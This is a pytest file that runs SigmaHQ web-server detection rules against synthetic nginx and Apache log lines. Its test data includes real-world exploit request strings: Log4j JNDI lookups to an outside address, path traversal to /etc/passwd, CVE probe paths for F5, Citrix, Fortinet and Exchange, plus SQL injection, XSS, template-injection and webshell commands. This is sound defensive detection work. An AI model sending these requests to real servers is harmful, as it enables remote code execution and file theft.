"""SigmaHQ's rules for web servers against lines of web servers: they find the names and values that they ask for."""

import tarfile
from pathlib import Path

import pytest
from support.rules import event_of
from support.web_lines import read

from rules.match import matches
from rules.sigma.load import load
from rules.sigma.model import RuleSet

CORPUS = Path(__file__).parents[3] / "shared" / "corpora" / "sigma-rules.tar.xz"
SOURCES = ("category: webserver", "service: nginx", "service: apache")
CRASH = "worker process 812 exited on signal 6 (core dumped)"


def access(request: str, agent: str = "Mozilla/5.0") -> str:
    return f'203.0.113.7 - - [01/Mar/2026:03:11:26 +0000] "{request} HTTP/1.1" 200 612 "-" "{agent}"'


@pytest.fixture(scope="module")
def sigmahq() -> RuleSet:
    if not CORPUS.is_file():
        pytest.skip(f"needs the corpora of other projects in {CORPUS.parent}, which is absent")
    files = []
    with tarfile.open(CORPUS) as archive:
        for member in archive:
            if member.isfile() and "web" in Path(member.name).name and (found := archive.extractfile(member)):
                files.append((member.name, found.read().decode()))
    return load(tuple(file for file in files if any(source in file[1] for source in SOURCES)))


@pytest.mark.parametrize(
    ("line", "title"),
    [
        (
            access("GET /tmui/login.jsp/..;/tmui/locallb/workspace/fileRead.jsp?fileName=/etc/passwd"),
            "CVE-2020-5902 F5",
        ),
        (access("GET /vpn/../vpns/cfg/smb.conf"), "Citrix Netscaler Attack CVE-2019-19781"),
        (access("GET /?x=${jndi:ldap://203.0.113.66/a}"), "Log4j RCE CVE-2021-44228 in Fields"),
        (access("GET /", "${jndi:ldap://203.0.113.66/a}"), "Log4j RCE CVE-2021-44228 in Fields"),
        (access("GET /", "${jndi:ldap://203.0.113.66/a}"), "Log4j RCE CVE-2021-44228 Generic"),
        (
            access("GET /autodiscover/autodiscover.json?@evil.example/powershell/?X-Rps-CAT=x"),
            "Successful Exchange Proxy",
        ),
        (access("POST /owa/auth/Current/themes/resources/x.aspx"), "Exchange Exploitation Used by HAFNIUM"),
        (access("GET /cgi-bin/.%2e/.%2e/.%2e/etc/passwd"), "CVE-2021-41773 Exploitation Attempt"),
        (
            access("GET /remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession"),
            "Fortinet CVE-2018-13379",
        ),
        (access("POST /mgmt/tm/util/bash"), "F5 BIG-IP iControl Rest API Command Execution"),
        (access("GET /p?id=1%20UNION%20SELECT%20NULL"), "SQL Injection Strings In URI"),
        (access("GET /s?q=<script>alert(1)</script>"), "Cross Site Scripting Strings"),
        (access("GET /.git/config"), "Source Code Enumeration Detection by Keyword"),
        (access("GET /x?f=../../../../../../../etc/passwd"), "Path Traversal Exploitation Attempts"),
        (access("GET /", "sqlmap/1.8"), "Suspicious User-Agents Related To Recon Tools"),
        (access("GET /x.php?cmd=whoami"), "Windows Webshell Strings"),
        (access("GET /${@java.lang.Runtime@getRuntime().exec(1)}/"), "Java Payload Strings"),
        (access("GET /api/index.php/v1/config/application?public=true"), "Potential CVE-2023-23752"),
        (access("GET /console/images/%252E%252E%252Fconsole.portal"), "Oracle WebLogic Exploit CVE-2020-14882"),
        (access("POST /ui/vropspluginui/rest/services/uploadova"), "CVE-2021-21972 VSphere Exploitation"),
        (access("GET /?x={{7*7}}"), "Server Side Template Injection Strings"),
        (f"2026/03/01 03:11:26 [alert] 810#810: {CRASH}", "Nginx Core Dump"),
        (
            "[Sun Mar 01 03:11:26.123456 2026] [core:notice] [pid 812] AH00052: child pid 900 exit signal "
            "Segmentation fault (11)",
            "Apache Segmentation Fault",
        ),
    ],
)
def test_their_rules_find_what_they_are_about(sigmahq: RuleSet, line: str, title: str) -> None:
    """Rules that ask `cs-uri-query` for a path, headers, keywords, and the error logs all find their line."""
    parsed = read(line)
    event = event_of(parsed.fields, text=line, logsource=parsed.logsource)
    found = [rule.title for rule in sigmahq.routed(parsed.logsource) if matches(rule, event)]
    assert any(one.startswith(title) for one in found), found


def test_an_ordinary_page_is_none_of_theirs(sigmahq: RuleSet) -> None:
    """A page that only speaks of such a file fulfils no rule of theirs."""
    line = access("GET /docs/configuration/?page=2")
    parsed = read(line)
    event = event_of(parsed.fields, text=line, logsource=parsed.logsource)
    assert len(sigmahq.rules) > 80
    assert [rule.title for rule in sigmahq.routed(parsed.logsource) if matches(rule, event)] == []
